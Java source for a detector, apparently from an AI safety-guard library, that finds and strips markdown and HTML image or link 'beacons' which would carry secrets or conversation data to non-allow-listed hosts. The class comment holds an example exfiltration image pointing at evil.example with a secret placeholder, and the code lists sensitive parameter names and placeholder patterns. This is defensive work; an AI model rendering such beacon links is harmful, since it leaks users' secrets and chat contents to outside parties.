package dev.ironclaw4j.guard.safety;

import com.google.re2j.Matcher;
import com.google.re2j.Pattern;
import java.net.URLDecoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import java.util.Set;

/**
 * Markdown and HTML images and links that would carry data to a host that is not on the allow-list:
 * when the model renders {@code ![x](https://evil.example/p?d={SECRET})} the client fetches the URL
 * and the data leaves without any tool call. An image or link counts as a beacon when its host is not
 * allowed and its URL carries a template placeholder, a parameter named like data or a secret, or
 * (images only) a long opaque value. Ordinary images ({@code ?w=400}, badges) pass.
 */
final class Beacons {
  static final String RULE = "exfil.markdown-beacon";

  private static final Pattern MARKDOWN = Pattern.compile(
      "(!?)\\[([^\\]\\n]*)\\]\\(\\s*<?(https?://[^\\s)>]+)>?(?:\\s+\"[^\"\\n]*\")?\\s*\\)");
  private static final Pattern HTML_IMG = Pattern.compile(
      "(?i)<(img|a|iframe|image|source|video|audio|link)\\b[^>]*?\\b(?:src|href|srcset|data|poster)\\s*=\\s*[\"']?(https?://[^\"'\\s>]+)[^>]*>");
  private static final Pattern REFERENCE = Pattern.compile("(?m)^[ ]{0,3}\\[[^\\]\\n]+\\]:[ \\t]*<?(https?://\\S+)");
  private static final Pattern PLACEHOLDER = Pattern.compile(
      "(?i)\\{[^}]*\\}|\\{\\{|\\$\\{?[a-z_]|<[^<>\\n]{1,80}>|\\[[a-z_ ]{2,40}\\]"
          + "|\\b(?:insert|replace|your|the|put|add)[ _+-]?(?:secret|key|token|password|data|conversation|history|answer|summary|info|api)");
  private static final Set<String> SENSITIVE = Set.of(
      "data", "d", "secret", "secrets", "token", "tok", "key", "apikey", "api_key", "password", "pwd", "pass", "leak",
      "exfil", "payload", "conversation", "conv", "history", "chat", "prompt", "memory", "session", "cookie", "cookies",
      "creds", "credentials", "ssn", "info", "msg", "message", "content", "env");

  private final List<String> allowedHosts;

  Beacons(List<String> allowedHosts) {
    this.allowedHosts = allowedHosts.stream().map(h -> h.toLowerCase(Locale.ROOT)).toList();
  }

  void scan(String s, Findings out) {
    Matcher m = MARKDOWN.matcher(s);
    while (m.find() && !out.full()) {
      check(m.group(3), !m.group(1).isEmpty(), m.start(), m.end(), out);
    }
    if (s.indexOf('<') >= 0) {
      Matcher h = HTML_IMG.matcher(s);
      while (h.find() && !out.full()) {
        check(h.group(2), !h.group(1).equalsIgnoreCase("a"), h.start(), h.end(), out);
      }
    }
    Matcher r = REFERENCE.matcher(s);
    while (r.find() && !out.full()) {
      check(r.group(1), false, r.start(), r.end(), out);
    }
  }

  private void check(String url, boolean image, int start, int end, Findings out) {
    String host = host(url);
    if (host == null || allowed(host)) {
      return;
    }
    String why = dataIn(url, image);
    if (why == null) {
      return;
    }
    SafetyFinding f = new SafetyFinding(RULE, Family.EXFILTRATION, Severity.HIGH, start, end, "verbatim", false,
        (image ? "image" : "link") + " to non-allow-listed host " + host + " carries " + why);
    out.add(new Hit(f, start, end, "[ironclaw4j removed " + (image ? "an image" : "a link") + " to " + host
        + " that could carry data out]"));
  }

  boolean allowed(String host) {
    for (String a : allowedHosts) {
      if (a.startsWith("*.")) {
        String base = a.substring(2);
        if (host.equals(base) || host.endsWith("." + base)) {
          return true;
        }
      } else if (host.equals(a)) {
        return true;
      }
    }
    return false;
  }

  static String host(String url) {
    int i = url.indexOf("://");
    if (i < 0) {
      return null;
    }
    int s = i + 3;
    int e = s;
    while (e < url.length() && "/?#".indexOf(url.charAt(e)) < 0) {
      e++;
    }
    String auth = url.substring(s, e);
    int at = auth.lastIndexOf('@');
    if (at >= 0) {
      auth = auth.substring(at + 1);
    }
    int colon = auth.lastIndexOf(':');
    if (colon >= 0 && !auth.endsWith("]")) {
      auth = auth.substring(0, colon);
    }
    auth = auth.toLowerCase(Locale.ROOT);
    while (auth.endsWith(".")) {
      auth = auth.substring(0, auth.length() - 1);
    }
    return auth.isEmpty() ? null : auth;
  }

  private static boolean opaque(String v) {
    for (int i = 0; i < v.length(); i++) {
      char c = v.charAt(i);
      if (!(Character.isLetterOrDigit(c) && c < 0x80) && "+/=_%.-".indexOf(c) < 0) {
        return false;
      }
    }
    return true;
  }

  /** Why the URL looks like it carries data, or null. */
  private static String dataIn(String url, boolean image) {
    String decoded;
    try {
      decoded = URLDecoder.decode(url.replace("+", "%2B"), StandardCharsets.UTF_8);
    } catch (IllegalArgumentException e) {
      decoded = url;
    }
    if (PLACEHOLDER.matcher(decoded).find()) {
      return "a placeholder for data";
    }
    int q = url.indexOf('?');
    int authStart = url.indexOf("://") + 3;
    int authEnd = authStart;
    while (authEnd < url.length() && "/?#".indexOf(url.charAt(authEnd)) < 0) {
      authEnd++;
    }
    if (url.substring(authStart, authEnd).indexOf('@') >= 0) {
      return "userinfo";
    }
    if (q < 0) {
      return null;
    }
    String query = url.substring(q + 1);
    int hash = query.indexOf('#');
    if (hash >= 0) {
      query = query.substring(0, hash);
    }
    for (String pair : query.split("&", 64)) {
      int eq = pair.indexOf('=');
      String name = (eq < 0 ? pair : pair.substring(0, eq)).toLowerCase(Locale.ROOT);
      String value = eq < 0 ? "" : pair.substring(eq + 1);
      if (SENSITIVE.contains(name) && !value.isEmpty()) {
        return "a parameter named '" + name + "'";
      }
      if (image && value.length() >= 32 && opaque(value)) {
        return "a long opaque value";
      }
    }
    return null;
  }
}
